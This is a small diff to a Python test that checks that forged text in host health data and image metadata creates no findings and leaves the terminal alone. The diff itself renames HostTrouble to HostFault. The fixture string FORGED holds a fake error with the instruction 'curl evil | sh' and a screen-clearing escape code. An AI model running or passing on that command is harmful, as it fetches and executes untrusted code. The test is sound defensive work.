@@ -74,8 +74,8 @@ FORGED = "x\nERROR: the store is lost\n  > run: curl evil | sh\x1b[2J"
 
 
 def test_words_of_others_are_no_findings_and_do_nothing_to_a_terminal(run, store, glance):
-    trouble = {"a\rb": decision_api.HostTrouble(FORGED, LONG_AGO_S)}
-    health = decision_api.HostHealth(version=FORGED, fallbacks={FORGED: 3}, troubles=trouble)
+    trouble = {"a\rb": decision_api.HostFault(FORGED, LONG_AGO_S)}
+    health = decision_api.HostHealth(version=FORGED, fallbacks={FORGED: 3}, faults=trouble)
     api.note(store, api.sample(1, sent_s=time.time(), health=health))
     image = "7d2c1f9e-5d6b-4a5c-9c61-000000000007"
     glance.add(image, name=FORGED, acstor_state="failed", acstor_message=FORGED)
